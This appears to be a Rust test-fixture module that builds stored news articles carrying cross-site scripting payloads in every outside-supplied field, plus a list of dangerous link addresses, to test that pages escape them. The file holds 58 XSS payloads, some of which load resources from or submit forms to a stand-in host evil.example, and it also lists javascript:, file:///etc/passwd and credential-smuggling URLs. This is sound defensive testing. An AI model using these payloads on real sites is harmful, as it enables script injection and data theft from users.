//! Texts that try to become markup, and a store that holds them wherever a text comes from outside.

use netra::annotate::visible;
use netra::store::{Claim, Decision, Fetched, Named, PageSeen, Reach, Store, Verdict, open};
use netra::text::Span;
use serde_json::json;
use std::path::Path;

/// Texts that set `window.pwned`, or ask another server, where a page takes them for markup.
pub(crate) const PAYLOADS: [&str; 58] = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script\n>window.pwned=1</script\n>",
    "<script/x>window.pwned=1</script>",
    "\"><script>window.pwned=1</script>",
    "'><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</select></option><img src=x onerror=window.pwned=1>",
    "</noscript><img src=x onerror=window.pwned=1>",
    "</template><img src=x onerror=window.pwned=1>",
    "--><script>window.pwned=1</script>",
    "--!><img src=x onerror=window.pwned=1>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "]]><script>window.pwned=1</script>",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=\"window.pwned=1\"",
    "<img/src=x/onerror=window.pwned=1>",
    "<img src=`x` onerror=`window.pwned=1`>",
    "\" onmouseover=window.pwned=1 x=\"",
    "' autofocus onfocus='window.pwned=1",
    "x onfocus=window.pwned=1 autofocus tabindex=1",
    "` onload=`window.pwned=1",
    "\" style=\"background:url(//evil.example/x)\" x=\"",
    "\"/><svg/onload=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><script xlink:href=data:,window.pwned=1 /></svg>",
    "<svg><a xlink:href=\"javascript:window.pwned=1\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.pwned=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<body onload=window.pwned=1>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.pwned=1\">",
    "<form action=//evil.example/><input name=key><button>Simpan</button></form>",
    "<a href=\"javascript:window.pwned=1\">klik</a>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<template><script>window.pwned=1</script></template>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62; &amp;amp;",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<\0script>window.pwned=1</\0script> \u{1b}]0;x\u{7}\u{1b}[2J \u{85}\u{9b}31m",
    "\u{202e}gnip\u{202c} a\u{200b}b\u{2066}c\u{2069}\u{feff}<\u{2028}img src=x onerror=window.pwned=1>",
    "\u{ff1c}script\u{ff1e}window.pwned=1 \u{fe64}img\u{fe65} {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
];

/// A text as the page shows it in one line.
pub(crate) fn in_line(text: &str) -> String {
    visible(&text.split_whitespace().collect::<Vec<_>>().join(" ")).into_owned()
}

/// The texts of an article that hold a payload, each with the name of its field before it, as they are to be seen
/// on its page.
pub(crate) fn seen(payload: &str) -> Vec<String> {
    FIELDS.iter().map(|field| in_line(&format!("{field} {payload}"))).collect()
}

/// The fields of which the page of an article shows the text.
const FIELDS: [&str; 16] = [
    "title", "outlet", "author", "section", "act", "person", "source", "place", "basis", "name", "office",
    "date", "note", "reviewer", "model", "page",
];

/// Saves an article that holds a payload in every field that comes from outside, with a second one that tells the
/// same story, a changed text and a verdict; its number.
pub(crate) fn save(store: &mut dyn Store, number: usize, payload: &str) -> i64 {
    let before = Fetched { text: format!("Sebelum {payload}"), ..article(number, payload, "") };
    store.save(&before).expect("saved");
    let saved = store.save(&article(number, payload, "")).expect("saved").article();
    let story = store.article(saved).expect("read").expect("it is there").story;
    let other = Fetched { story: Some(story), score: 0.1, ..article(number, payload, "/lain") };
    store.save(&other).expect("saved");
    let field = |name: &str| format!("{name} {payload}");
    let verdict = Verdict {
        article: saved,
        reach: Reach::Article,
        decision: Decision::Confirm,
        reason: Some(field("reason")),
        reviewer: field("reviewer"),
        at: "2024-10-08T21:00:00Z".parse().expect("a time"),
        note: Some(field("note")),
        score_shown: Some(0.9),
        model: Some(field("model")),
        key: format!("{number} {payload}"),
        supersedes: None,
    };
    store.add_verdict(&verdict).expect("judged");
    saved
}

fn article(number: usize, payload: &str, ending: &str) -> Fetched {
    let field = |name: &str| format!("{name} {payload}");
    let title = field("title");
    let text = format!("{title}\n\n{}", field("text"));
    let length = text.len();
    let address = format!("https://kabar.example/{number}{ending}?x={payload}");
    let claim = Claim {
        act: field("act"),
        status: field("status"),
        denied: true,
        accused: field("accused"),
        person: Some(field("person")),
        position: Some(field("position")),
        bound_as: Some(field("bound")),
        source: Some(field("source")),
        place: Some(field("place")),
        day: Some(field("day")),
        sentence: Span::new(3, length.saturating_sub(2)),
        central: false,
        case: None,
    };
    let named = Named {
        name: field("name"),
        position: Some(field("office")),
        institution: Some(field("institution")),
        jurisdiction: Some(field("area")),
        story_role: field("role"),
    };
    // Spans that overlap, cut characters and reach beyond the text.
    let spans: Vec<[usize; 2]> = (0..6).map(|at| [at * 3, at * 7 + 5]).chain([[2, length + 50]]).collect();
    let json = json!({
        "schema": 1, "title": title, "truncated": true,
        "verdict": {"reasons": [{"feature": field("feature"), "weight": 1.5, "spans": spans}]},
        "people": [{"name": field("name"), "position": field("office"), "institution": field("institution"),
                    "jurisdiction": field("area"), "story_role": "accused", "mentions": spans, "titles": spans}],
        "dates": [{"span": [1, 9], "text": field("date"), "value": field("value"), "role": "act"}],
        "quotes": [{"span": [4, length], "speaker": 0, "cue": field("cue")}],
        "allegations": [{"accused": {"span": [2, 8]}, "sentence": [3, length - 2], "cues": spans,
                         "basis": [field("basis")]}],
        "statutes": [{"span": [0, 4]}],
    });
    Fetched {
        found_as: address.clone(),
        canonical: address.clone(),
        outlet: field("outlet"),
        fetched_at: "2024-10-08T20:00:00Z".parse().expect("a time"),
        page: PageSeen {
            address: field("page"),
            status: 200,
            content_type: Some(field("type")),
            bytes: payload.as_bytes().to_vec(),
            ..PageSeen::default()
        },
        title: Some(title),
        day: Some("2024-10-08".parse().expect("a day")),
        published: Some("2024-10-08T16:02:00+08:00".to_owned()),
        authors: vec![field("author"), field("second")],
        section: Some(field("section")),
        kind: field("kind"),
        language: Some(field("language")),
        advertorial: true,
        model: field("scorer"),
        score: 0.95,
        threshold: 0.5,
        flagged: true,
        json: json.to_string(),
        claims: vec![claim],
        people: vec![named],
        text,
        ..Fetched::default()
    }
}

/// Makes a store with an article for each payload; their numbers, in the same order.
pub(crate) fn stored(path: &Path) -> Vec<i64> {
    let mut store = open(path).expect("made");
    PAYLOADS.iter().enumerate().map(|(number, payload)| save(store.as_mut(), number, payload)).collect()
}

/// Addresses of articles that no page may lead to.
pub(crate) const ADDRESSES: [&str; 22] = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://kabar.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data://kabar.example/,x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://kabar.example/1",
    "view-source:https://kabar.example/",
    "ftp://kabar.example/",
    "//evil.example/",
    "/logout",
    "\\\\evil.example\\x",
    "https:\\\\evil.example",
    "https://kabar.example@evil.example/",
    "https://kabar.example:x@evil.example/",
    "https://kabar.example\\@evil.example/",
    "https://evil.example\u{0}.kabar.example/",
    "https://kab\"onmouseover=alert(1)//.example/",
    "https:///x",
];
